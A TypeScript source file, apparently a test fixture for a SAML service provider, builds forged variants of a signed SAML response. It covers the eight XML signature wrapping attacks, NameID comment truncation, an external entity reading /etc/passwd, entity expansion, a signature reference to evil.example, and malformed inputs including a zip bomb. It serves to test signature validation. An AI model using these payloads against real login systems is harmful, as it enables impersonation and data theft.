import { randomUUID } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'

// Changes of a signed response. Each receives the XML of a response with a signed assertion and returns the attack.

/** Parts of a response: the text before the assertion, the assertion, and the text after it. */
function splitResponse(xml: string): { before: string; assertion: string; after: string } {
  const start = xml.indexOf('<saml:Assertion')
  const end = xml.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length
  return { before: xml.slice(0, start), assertion: xml.slice(start, end), after: xml.slice(end) }
}

const signaturePattern = /<ds:Signature[ >][^]*?<\/ds:Signature>/

const signatureOf = (xml: string): string => signaturePattern.exec(xml)?.[0] ?? ''

const withoutSignature = (xml: string): string => xml.replace(signaturePattern, '')

/** Copies an element for another person, without its signature. */
const forge = (xml: string): string => withoutSignature(xml).replaceAll('mallory@', 'ceo@')

const withNewId = (xml: string): string => xml.replace(/ ID="[^"]*"/, ` ID="_${randomUUID()}"`)

const insertInto = (xml: string, element: string, content: string): string =>
  xml.replace(`</${element}>`, `${content}</${element}>`)

const namespacesOfResponse =
  ' xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'

const standalone = (assertion: string): string =>
  assertion.replace('<saml:Assertion', `<saml:Assertion${namespacesOfResponse}`)

/** Signature wrapping as in "On Breaking SAML" (Somorovsky et al.). XSW1 and XSW2 need a signed response. */
export const wrappings: Record<string, (xml: string) => string> = {
  'XSW1: a forged response with the signed one inside its signature': (xml) => {
    const signature = signatureOf(xml)
    const forged = withNewId(forge(xml))
    const wrapped = insertInto(signature, 'ds:Signature', `<ds:Object>${withoutSignature(xml)}</ds:Object>`)
    return forged.replace('</saml:Issuer>', `</saml:Issuer>${wrapped}`)
  },
  'XSW2: a forged response with the signed one before a detached signature': (xml) => {
    const forged = withNewId(forge(xml))
    return forged.replace('</saml:Issuer>', `</saml:Issuer>${withoutSignature(xml)}${signatureOf(xml)}`)
  },
  'XSW3: a forged assertion before the signed one': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    return `${before}${withNewId(forge(assertion))}${assertion}${after}`
  },
  'XSW4: the signed assertion inside a forged one': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    return `${before}${insertInto(withNewId(forge(assertion)), 'saml:Assertion', assertion)}${after}`
  },
  'XSW5: a forged assertion with the signature, and the original after it': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    const forged = withNewId(assertion.replaceAll('mallory@', 'ceo@'))
    return `${before}${forged}${withoutSignature(assertion)}${after}`
  },
  'XSW6: a forged assertion with the original inside its signature': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    const signature = insertInto(signatureOf(assertion), 'ds:Signature', withoutSignature(assertion))
    const forged = withNewId(forge(assertion)).replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
    return `${before}${forged}${after}`
  },
  'XSW7: a forged assertion inside extensions': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    const extensions = `<samlp:Extensions>${forge(assertion)}</samlp:Extensions>`
    return `${before}${extensions}${assertion}${after}`
  },
  'XSW8: a forged assertion with the original inside an object of its signature': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    const object = `<ds:Object>${withoutSignature(assertion)}</ds:Object>`
    const signature = insertInto(signatureOf(assertion), 'ds:Signature', object)
    const forged = forge(assertion).replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
    return `${before}${forged}${after}`
  },
}

/** Other changes of a response with a valid signature. */
export const manipulations: Record<string, (xml: string) => string> = {
  'a changed NameID': (xml) => xml.replaceAll('mallory@', 'ceo@'),
  'no signature at all': withoutSignature,
  'an unsigned assertion beside a signed one': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    return `${before}${assertion}${withNewId(forge(assertion))}${after}`
  },
  'a repeated ID': (xml) => {
    const { before, assertion, after } = splitResponse(xml)
    const id = / ID="([^"]*)"/.exec(assertion)?.[1] ?? ''
    return `${before}<samlp:Extensions><x xmlns="urn:x" Id="${id}"/></samlp:Extensions>${assertion}${after}`
  },
  'a comment that truncates the NameID': (xml) =>
    xml.replace('mallory@acme.example<', 'ceo@acme.example<!-- -->.evil.example<'),
  'a comment inside a signed NameID': (xml) => xml.replace('mallory@acme', 'mallory<!---->@acme'),
  'a processing instruction': (xml) => xml.replace('mallory@acme', 'mallory<?x?>@acme'),
  'a CDATA section': (xml) => xml.replace('mallory@acme.example', '<![CDATA[mallory@acme.example]]>'),
  'a document type': (xml) => `<!DOCTYPE x>${xml}`,
  'an external entity': (xml) =>
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${xml.replace('mallory@', '&e;@')}`,
  'entities that expand exponentially': (xml) =>
    `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${xml.replace('mallory@', '&b;@')}`,
  'an entity that is not declared': (xml) => xml.replace('mallory@', '&nbsp;mallory@'),
  'a second root element': (xml) => `${xml}<x/>`,
  'an encoding other than UTF-8': (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  'elements that are nested too deeply': (xml) =>
    xml.replace('<samlp:Status>', `${'<x>'.repeat(100)}${'</x>'.repeat(100)}<samlp:Status>`),
  'too many elements': (xml) => xml.replace('<samlp:Status>', `${'<x/>'.repeat(2000)}<samlp:Status>`),
  'too many attributes': (xml) =>
    xml.replace(
      '<samlp:Status>',
      `<x ${Array.from({ length: 500 }, (_, index) => `a${index}="1"`).join(' ')}/><samlp:Status>`,
    ),
  'another transform': (xml) =>
    xml.replace('http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
  'a reference to the whole document': (xml) => xml.replace(/URI="#[^"]*"/, 'URI=""'),
  'a reference to another address': (xml) => xml.replace(/URI="#[^"]*"/, 'URI="https://evil.example/a.xml"'),
  'two SignedInfo elements': (xml) => {
    const info = /<ds:SignedInfo>[^]*<\/ds:SignedInfo>/.exec(xml)?.[0] ?? ''
    return xml.replace(info, info + info)
  },
  'an assertion of SAML 1.1': (xml) => xml.replace(/(<saml:Assertion [^>]*)Version="2.0"/, '$1Version="1.1"'),
  'an encrypted assertion': (xml) => xml.replaceAll('saml:Assertion', 'saml:EncryptedAssertion'),
  'an assertion without its response': (xml) => standalone(splitResponse(xml).assertion),
}

const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64')

/** Values of `SAMLResponse` that are no XML. */
export const garbage: Record<string, string> = {
  'an empty value': '',
  'no base64': '<Response/>',
  'base64 with a wrong length': 'QUJD=',
  'base64 of the URL alphabet': '_-_-',
  'random bytes': base64(Buffer.from([0, 255, 254, 1, 128])),
  'a zip bomb': base64(deflateRawSync(Buffer.alloc(20_000_000))),
  'UTF-16': base64(Buffer.from('<Response/>', 'utf16le')),
  'a value that is too large': base64(`<Response>${'x'.repeat(300_000)}</Response>`),
  'a tag that never ends': base64(`<Response ${'a'.repeat(200_000)}`),
  'many unfinished tags': base64('<a '.repeat(60_000)),
  'many spaces': base64(`<Response${' '.repeat(200_000)}x`),
  'many attributes without values': base64(`<Response${' a'.repeat(100_000)}>`),
  'many ampersands': base64(`<Response>${'&'.repeat(200_000)}</Response>`),
}
